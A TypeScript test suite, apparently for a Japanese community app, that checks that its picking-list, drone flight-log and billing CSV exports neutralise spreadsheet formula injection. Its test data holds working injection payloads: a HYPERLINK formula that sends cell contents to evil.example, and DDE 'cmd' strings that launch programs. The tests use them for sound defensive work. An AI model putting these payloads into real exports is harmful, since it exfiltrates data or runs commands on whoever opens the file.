import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { createTestContext, type TestContext } from '../../../test/helpers/context';
import { DEFAULT_BILLING_SETTINGS } from '../billing/billing-settings';
import { closeMonth } from '../billing/close-month';
import { addCharge, closeTime } from '../billing/testing';
import { allOk } from '../drone/test-fixtures';
import { order, productId, TUE_0900 } from '../shop/testing';
import { neutraliseCell, toCsv } from './csv';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"見る")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|A0',
  '@SUM(1+1)*cmd|A0',
  '\t=1+1',
  '\r=1+1',
];

/** Every cell of a CSV, parsed as a spreadsheet would split it. */
const cells = (csv: string) => (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat();
const formulaCells = (csv: string) => cells(csv).filter((c) => /^[=+\-@\t\r]/.test(c));

describe('CSV cells never start a formula', () => {
  it('prefixes text that a spreadsheet would evaluate, and keeps numbers numeric', async () => {
    for (const f of FORMULAS) expect(neutraliseCell(f)).toBe(`'${f}`);
    expect(neutraliseCell('りんご 3個')).toBe('りんご 3個');
    expect(neutraliseCell('2026-11-24')).toBe('2026-11-24');
    // A refund of 500 yen is a number cell, written as -500 and read back as a value.
    const csv = toCsv([['返金', -500, '-500']], { header: ['内容', '金額', 'メモ'] });
    expect(csv).toBe("内容,金額,メモ\n返金,-500,'-500\n");
  });

  let ctx: TestContext | undefined;
  afterEach(() => ctx?.close());

  it('in the picking list, whatever a household or product is called', async () => {
    ctx = await createTestContext({ now: TUE_0900 });
    const eggs = await productId(ctx, 'たまご 10個');
    ctx.sqlite.prepare('UPDATE products SET name = ? WHERE id = ?').run(FORMULAS[1], eggs);
    ctx.sqlite.prepare('UPDATE households SET name = ? WHERE id = 1').run(FORMULAS[0]);
    await order(ctx, [{ productId: eggs, qty: 2 }]);
    const store = await ctx.login('store');
    const csv = await (
      await ctx.request('/console/shop/picking.csv?date=2026-11-24', { headers: store })
    ).text();
    expect(cells(csv)).toContain(`'${FORMULAS[0]}`);
    expect(cells(csv)).toContain(`'${FORMULAS[1]}`);
    expect(formulaCells(csv)).toEqual([]);
  });

  it('in the flight log (API and console), whatever staff type into places and notes', async () => {
    ctx = await createTestContext({ now: '2026-11-24T00:00:00Z' });
    const drone = await ctx.login('drone');
    const inspection = await ctx.json(
      'POST',
      '/api/drone/drones/1/inspections',
      { date: '2026-11-24', place: FORMULAS[2], results: allOk, notes: FORMULAS[3] },
      drone,
    );
    expect(inspection.status).toBe(201);
    const maintenance = await ctx.json(
      'POST',
      '/api/drone/drones/1/maintenance',
      {
        date: '2026-11-24',
        place: FORMULAS[0],
        performedBy: FORMULAS[1],
        work: FORMULAS[4],
        partsReplaced: FORMULAS[5],
        reason: FORMULAS[3],
      },
      drone,
    );
    expect(maintenance.status).toBe(201);
    for (const part of ['flights', 'inspections', 'maintenance']) {
      const q = `from=2026-11-24&to=2026-11-24&part=${part}`;
      for (const url of [
        `/api/drone/drones/1/flight-log?${q}`,
        `/console/drone/flight-log.csv?droneId=1&${q}`,
      ]) {
        const res = await ctx.request(url, { headers: drone });
        expect(res.status, url).toBe(200);
        expect(formulaCells(await res.text()), url).toEqual([]);
      }
    }
  });

  it('in the cable operator CSV, whatever a charge is described as', async () => {
    ctx = await createTestContext({ now: closeTime('2026-11') });
    for (const description of FORMULAS)
      addCharge(ctx.sqlite, { householdId: 1, kind: 'ride', amountYen: 500, month: '2026-10', description });
    // A correction refunding 300 yen stays a negative number.
    addCharge(ctx.sqlite, { householdId: 1, kind: 'adjustment', amountYen: -300, month: '2026-10' });
    await closeMonth(ctx.db, '2026-10', ctx.clock.now(), DEFAULT_BILLING_SETTINGS);
    const city = await ctx.login('city');
    const csv = await (
      await ctx.request('/console/billing/months/2026-10/cable.csv', { headers: city })
    ).text();
    for (const f of FORMULAS) expect(cells(csv)).toContain(`'${f}`);
    expect(formulaCells(csv)).toEqual(['-300']);
  });
});
